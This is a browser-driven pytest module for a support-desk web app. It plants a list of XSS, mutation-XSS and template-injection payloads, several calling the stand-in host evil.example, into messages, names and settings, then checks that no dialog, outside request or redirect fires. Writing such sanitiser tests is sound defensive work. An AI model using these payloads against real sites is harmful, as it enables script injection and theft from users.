"""Hostile markup in every text a stranger or a colleague can write, shown by a real browser.

Whatever is tried, nothing runs: no dialog, no page but ours, no request to anybody else.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from html import unescape
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import nh3
import pytest

from conversations.intake import InboundFile
from conversations.models import Customer, EntryBody
from conversations.views import safe_html
from tests.builders import conversation_of, make_cast, make_team, write_in
from tests.journeys.browsers import needs_chromium

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Frame, Page, Request

    from tests.builders import Cast
    from tests.journeys.browsers import Desk

CORPUS = Path(__file__).parents[3] / "shared/corpora/html/dompurify.json"
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=//evil.example/a.js></script>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<div style=\"background:url('//evil.example/d')\">x</div>",
    "<video poster=//evil.example/e src=//evil.example/f autoplay onplay=alert(1)></video>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<img srcset='//evil.example/g 1x' src='//evil.example/h'>",
    "{{ constructor.constructor('alert(1)')() }}{% debug %}",
    "<button hx-get='//evil.example/i' hx-trigger='load'>x</button>",
    '<p data-key="entry:1" id=feed hx-on:load=alert(1)>x</p>',
    "javascript:alert(1)",
    'https://x.example/"onmouseover=alert(1)//',
    "\u202egnp.exe<details open ontoggle=alert(1)>",
]
pytestmark = [pytest.mark.django_db(transaction=True), needs_chromium]


@dataclass
class Watched:
    """What a page did that no page of ours does."""

    host: str
    seen: list[str] = field(default_factory=list)

    def watch(self, page: Page) -> None:
        page.on("dialog", self._dialog)
        page.on("request", self._request)
        page.on("framenavigated", self._went)

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme not in ("data", "blob", "about") and parts.netloc != self.host:
            self.seen.append(f"request {request.url}")

    def _went(self, frame: Frame) -> None:
        parts = urlsplit(frame.url)
        if parts.netloc not in (self.host, "") or parts.scheme == "javascript":
            self.seen.append(f"went to {frame.url}")


def payloads() -> list[str]:
    found = json.loads(CORPUS.read_text()) if CORPUS.exists() else []
    return OWN + [one["html"] for one in found]


@pytest.fixture
def hostile() -> Cast:
    """A desk where everybody writes markup, one customer for thirty pieces of it."""
    cast = make_cast()
    for number, text in enumerate(payloads()):
        entry = write_in(
            cast.inbox,
            f"w{number // 30}@evil.example",
            text=text or "-",
            full_text=text,
            html=text,
            subject=text[:300],
            label=text[:200],
            files=(InboundFile(text[:255] or "x", "text/html", 3, "0"),),
            data={"to": [text[:200]], "also_at": [text[:100]]},
        )
        Customer.objects.filter(conversation=entry.conversation_id).update(
            name=text[:200], memo=text
        )
    for number, text in enumerate(OWN):
        make_team(f"{number}{text}"[:100])
    type(cast.inbox).objects.update(name=OWN[1], from_name=OWN[2], signature=OWN[3])
    type(cast.bob).objects.filter(pk=cast.bob.pk).update(name=OWN[1])
    return cast


def test_nothing_a_stranger_writes_runs(desk: Desk, hostile: Cast) -> None:
    watched = Watched(urlsplit(desk.web.url).netloc)
    page = desk.computer(hostile.alice).new_page()
    watched.watch(page)
    writers = (len(payloads()) + 29) // 30
    pages = [f"/conversations/{conversation_of(f'w{n}@evil.example').pk}/" for n in range(writers)]
    pages += [
        "/desk/unassigned/open/",
        "/search/?q=alert",
        "/search/?q=%3Cscript%3E",
        "/messages/new/",
    ]
    pages += ["/settings/teams/", "/settings/people/", "/settings/inboxes/"]
    for path in pages:
        page.goto(path)
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.wait_for_load_state("networkidle")
        page.mouse.move(700, 400)
    assert watched.seen == []


def test_the_whole_of_a_hostile_mail_is_only_read(desk: Desk, hostile: Cast) -> None:
    watched = Watched(urlsplit(desk.web.url).netloc)
    page = desk.computer(hostile.alice).new_page()
    watched.watch(page)
    for pk in EntryBody.objects.values_list("pk", flat=True):
        page.goto(f"/entries/{pk}/whole/")
        assert (
            page.evaluate(
                "document.querySelectorAll('script,iframe,object,embed,form,link,base').length"
            )
            == 0
        )
    assert watched.seen == []


@pytest.mark.skipif(not CORPUS.exists(), reason="the corpus of hostile markup isn't here")
def test_what_was_meant_to_be_read_is_left() -> None:
    entry = write_in(make_cast().inbox)
    for one in json.loads(CORPUS.read_text()):
        if one.get("keep_text"):
            cleaned = safe_html.cleaned(one["html"], entry)
            text = " ".join(unescape(nh3.clean(cleaned, tags=set())).split())
            assert one["keep_text"] in text, one["id"]
